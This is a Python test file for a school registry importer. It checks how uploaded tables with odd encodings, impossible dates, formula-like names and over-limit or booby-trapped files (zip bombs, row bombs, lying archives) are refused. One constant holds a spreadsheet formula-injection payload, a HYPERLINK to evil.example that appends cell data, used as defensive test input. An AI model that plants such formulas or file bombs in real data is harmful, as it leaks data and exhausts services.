"""Files coming in: encodings, impossible dates, names that look like formulas, and files over a limit or built to
hurt (a compressed bomb, a row bomb, a far cell, archives that lie), refused early, in Russian, in bounded memory."""

from __future__ import annotations

import codecs
import io
import json
import subprocess
import sys
import time
import uuid
from dataclasses import replace
from typing import Any

import pytest
import xlsxwriter
from arq.worker import Worker

from services.registry.importer import ImportLimits, UnreadableFile, prepare, read_table
from shared.db import Scope, current_connection, tenant_transaction
from shared.settings import ROOT, get_settings
from tests.helpers import PASSWORD, Tenant, login_api, login_page, make_client, upload_headers
from tests.registry import hostile_files as hostile

LIMITS = ImportLimits(max_rows=100_000, max_unpacked_bytes=200 * hostile.MB)
ROWS = [
    ["Фамилия", "Имя", "Дата рождения", "Категория", "Класс"],
    ["Ёжикова", "Алёна", "12.04.2011", "обучающийся", "5А"],
    ["Щукин", "Пётр", "01.02.1980", "учитель", ""],
]
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Нажми")'


def text_file(rows: list[list[str]], separator: str = ";") -> str:
    return "\r\n".join(separator.join(r) for r in rows) + "\r\n"


def read(content: bytes, limits: ImportLimits = LIMITS) -> Any:
    return prepare(read_table(content, limits))


@pytest.mark.parametrize(
    ("bom", "codec", "separator"),
    [
        (codecs.BOM_UTF16_LE, "utf-16-le", "\t"),  # Excel's «Текст Юникод»
        (codecs.BOM_UTF16_BE, "utf-16-be", ";"),
        (codecs.BOM_UTF32_LE, "utf-32-le", ";"),
        (codecs.BOM_UTF32_BE, "utf-32-be", ","),
    ],
)
def test_utf16_and_utf32_files_with_a_bom_are_read(bom: bytes, codec: str, separator: str) -> None:
    prepared = read(bom + text_file(ROWS, separator).encode(codec))
    assert prepared.report.errors == []
    assert [(v["surname"], v["name"], v["class_or_course"]) for _, v, _ in prepared.people] == [
        ("Ёжикова", "Алёна", "5А"),
        ("Щукин", "Пётр", ""),
    ]


@pytest.mark.parametrize(
    ("content", "named"),
    [
        (text_file(ROWS).encode("utf-16-le"), "UTF-16"),  # no byte order mark
        (b"+/v8" + text_file(ROWS).encode("utf-7"), "UTF-7"),
        (codecs.BOM_UTF16_LE + "Фамилия;Имя\r\n".encode("utf-16-le") + b"\x00\xd8\x41\x00", "UTF-16"),  # broken
    ],
)
def test_an_encoding_that_cannot_be_read_is_refused_by_name(content: bytes, named: str) -> None:
    with pytest.raises(UnreadableFile, match=named):
        read(content)


def test_an_impossible_date_is_not_a_wrong_format() -> None:
    rows = [
        ["Фамилия", "Имя", "Дата рождения"],
        ["Февральская", "Дата", "31.02.2011"],
        ["Другая", "Форма", "2011/04/12"],
        ["Верная", "Дата", "28.02.2011"],
    ]
    report = read(text_file(rows).encode()).report
    assert [(e.row, e.column, e.message) for e in report.errors] == [
        (2, "Дата рождения", "Такой даты нет: 31.02.2011"),
        (3, "Дата рождения", "Дата в формате дд.мм.гггг"),
    ]


def test_names_that_look_like_formulas_are_imported_as_typed() -> None:
    names = [FORMULA, "+7", "-минус", "@SUM(A1)"]
    rows = [["Фамилия", "Имя"], *[[n, "Формулина"] for n in names]]
    from_csv = read(
        text_file(rows, ",").encode().replace(FORMULA.encode(), b'"' + FORMULA.replace('"', '""').encode() + b'"')
    )
    buffer = io.BytesIO()
    with xlsxwriter.Workbook(buffer, {"strings_to_formulas": False}) as book:
        sheet = book.add_worksheet()
        for n, values in enumerate(rows):
            sheet.write_row(n, 0, values)
    from_xlsx = read(buffer.getvalue())
    for prepared in (from_csv, from_xlsx):
        assert prepared.report.errors == []
        assert [v["surname"] for _, v, _ in prepared.people] == names


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_a_file_over_the_row_limit_is_refused_naming_the_limit(kind: str) -> None:
    limits = replace(LIMITS, max_rows=5)

    def content(count: int) -> bytes:
        if kind == "xlsx":
            return hostile.xlsx(hostile.pupils(count))
        return text_file(
            [hostile.HEADER, *[[f"Строкин{n}", "Иван", "12.04.2011", "ученик"] for n in range(count)]]
        ).encode()

    assert read(content(5), limits).report.valid == 5
    with pytest.raises(UnreadableFile) as refused:
        read(content(6), limits)
    assert str(refused.value) == "В файле больше 5 строк: разделите его на части"


def test_a_compressed_bomb_is_refused_from_the_archive_directory() -> None:
    bomb = hostile.compressed_bomb(210 * hostile.MB)
    assert len(bomb) < 1 * hostile.MB  # a few hundred kilobytes
    started = time.perf_counter()
    with pytest.raises(UnreadableFile) as refused:
        read(bomb)
    assert time.perf_counter() - started < 1  # nothing was inflated
    assert str(refused.value).startswith("Файл XLSX распаковывается больше чем в 200 МБ")


def test_archives_that_lie_about_their_parts_are_refused() -> None:
    good = hostile.xlsx(hostile.pupils(50))
    assert read(good).report.valid == 50
    sheet = "xl/worksheets/sheet1.xml"
    with pytest.raises(UnreadableFile, match="не сходятся со своими размерами"):
        read(hostile.lying_sizes(good, sheet, 100))  # says 100 bytes, holds kilobytes
    with pytest.raises(UnreadableFile, match="повреждён"):
        read(hostile.overlapping(good))  # two parts on one piece of data


def test_sheets_without_cell_positions_or_with_prefixed_tags_are_read() -> None:
    plain = hostile.xlsx([hostile.row(1, hostile.HEADER, refs=False), hostile.row(2, hostile.PUPIL, refs=False)])
    prefixed = hostile.xlsx(
        [hostile.row(1, hostile.HEADER, prefix="x:"), hostile.row(2, hostile.PUPIL, prefix="x:")], prefix="x:"
    )
    for content in (plain, prefixed):
        prepared = read(content)
        assert prepared.report.errors == []
        assert [(v["surname"], v["birth_date"].isoformat()) for _, v, _ in prepared.people] == [
            ("Иванов", "2011-04-12")
        ]


def test_hostile_files_are_refused_early_and_an_accepted_one_read_in_bounded_memory() -> None:
    """In a child process that loads what the worker loads: its peak memory is what the worker would reach."""
    probe = subprocess.run(
        [sys.executable, "-m", "tests.registry.hostile_files"],
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=300,
    )
    assert probe.returncode == 0, probe.stderr[-2000:]  # an abort (calamine's failed allocation) ends here
    found = json.loads(probe.stdout.strip().splitlines()[-1])
    results = found["results"]
    assert results["row_bomb"]["message"] == "В файле больше 100 000 строк: разделите его на части"
    for name in ("far_cell", "far_cell_unpositioned", "shared_strings"):
        assert results[name]["message"].startswith("В таблице больше 1 200 000 ячеек"), name
    assert results["accepted"]["message"] == "valid 20000"
    for name in ("row_bomb", "far_cell", "far_cell_unpositioned", "shared_strings"):
        assert results[name]["seconds"] < 10, name
    assert found["peak_mb"] < 300


# Through the worker, the API and the pages -------------------------------------------------------------------------


async def run_worker_with(**settings: Any) -> None:
    """A burst of the worker whose settings (in the jobs' context) differ from the environment's."""
    from app.worker import startup, worker_settings

    async def own_startup(ctx: dict[str, Any]) -> None:
        await startup(ctx)
        ctx["settings"] = replace(get_settings(), **settings)

    worker = Worker(**worker_settings(on_startup=own_startup, burst=True, poll_delay=0.05, handle_signals=False))
    try:
        await worker.main()
    finally:
        await worker.close()


async def test_a_refused_file_says_why_on_the_import_page_and_in_the_api(app: Any, tenant_a: Tenant) -> None:
    rows = [hostile.HEADER, *[[f"Лимитов{n}", "Иван", "12.04.2011", "ученик"] for n in range(4)]]
    async with make_client(app) as client:
        await login_api(client, tenant_a.curator, PASSWORD)
        upload = await client.post(
            "/api/v1/imports",
            files={"file": ("большой.csv", text_file(rows).encode(), "text/csv")},
            headers=await upload_headers(client),
        )
        assert upload.status_code == 202, upload.text
        await run_worker_with(import_max_rows=3)  # the limit reaches the job through its context
        status = (await client.get(f"/api/v1/imports/{upload.json()['id']}")).json()
        assert status["status"] == "invalid"
        assert status["report"]["errors"] == [
            {"row": 0, "column": "", "message": "В файле больше 3 строк: разделите его на части"}
        ]
        page = await client.get(f"/people/import/{upload.json()['id']}")
        assert "В файле больше 3 строк: разделите его на части" in page.text
    async with tenant_transaction(Scope.for_region(tenant_a.region_id)):
        assert not await current_connection().fetchval("SELECT count(*) FROM person WHERE surname = 'Лимитов0'")


async def test_a_formula_name_is_stored_as_typed_through_the_worker(app: Any, tenant_a: Tenant) -> None:
    surname = f"=1+2{uuid.uuid4().hex[:6]}"
    rows = [["Фамилия", "Имя", "Категория"], [surname, "Формулина", "педагог"]]
    async with make_client(app) as client:
        await login_api(client, tenant_a.curator, PASSWORD)
        upload = await client.post(
            "/api/v1/imports",
            files={"file": ("ф.csv", text_file(rows).encode(), "text/csv")},
            headers=await upload_headers(client),
        )
        await run_worker_with()
        assert (await client.post(f"/api/v1/imports/{upload.json()['id']}/commit")).status_code == 202
        await run_worker_with()
        assert (await client.get(f"/api/v1/imports/{upload.json()['id']}")).json()["status"] == "done"
    async with tenant_transaction(Scope.for_region(tenant_a.region_id)):
        assert await current_connection().fetchval("SELECT count(*) FROM person WHERE surname = $1", surname) == 1


# Dates in the person form ------------------------------------------------------------------------------------------


async def test_an_impossible_birth_date_is_named_in_the_person_form_and_the_api(app: Any, tenant_a: Tenant) -> None:
    from tests.helpers import post_form

    fields = {"surname": "Февральская", "name": "Тест", "category": "staff", "roles": "mentor_candidate"}
    async with make_client(app) as client:
        await login_page(client, tenant_a.curator, PASSWORD)
        page = await post_form(client, "/people/new", {**fields, "birth_date": "31.02.2011"})
        assert page.status_code == 422
        assert '<p class="error" id="e-birth_date">Такой даты нет: 31.02.2011</p>' in page.text
        wrong = await post_form(client, "/people/new", {**fields, "birth_date": "31 февраля"})
        assert '<p class="error" id="e-birth_date">Дата в формате дд.мм.гггг</p>' in wrong.text
    async with make_client(app) as client:
        await login_api(client, tenant_a.curator, PASSWORD)
        body = {**fields, "roles": ["mentor_candidate"]}
        for sent, message in (
            ("31.02.2011", "Такой даты нет: 31.02.2011"),
            ("2011-02-31", "Такой даты нет: 2011-02-31"),
            ("2011-02", "Дата в формате дд.мм.гггг"),
        ):
            refused = await client.post("/api/v1/people", json={**body, "birth_date": sent})
            assert refused.status_code == 400, refused.text
            assert refused.json()["errors"] == {"birth_date": message}
        accepted = await client.post("/api/v1/people", json={**body, "birth_date": "2011-02-28"})
        assert accepted.status_code == 201, accepted.text
        consent = await client.post(
            f"/api/v1/people/{accepted.json()['id']}/consents", json={"kind": "personal_data", "given_on": "30.02.2025"}
        )
        assert consent.status_code == 400 and consent.json()["errors"]["given_on"] == "Такой даты нет: 30.02.2025"
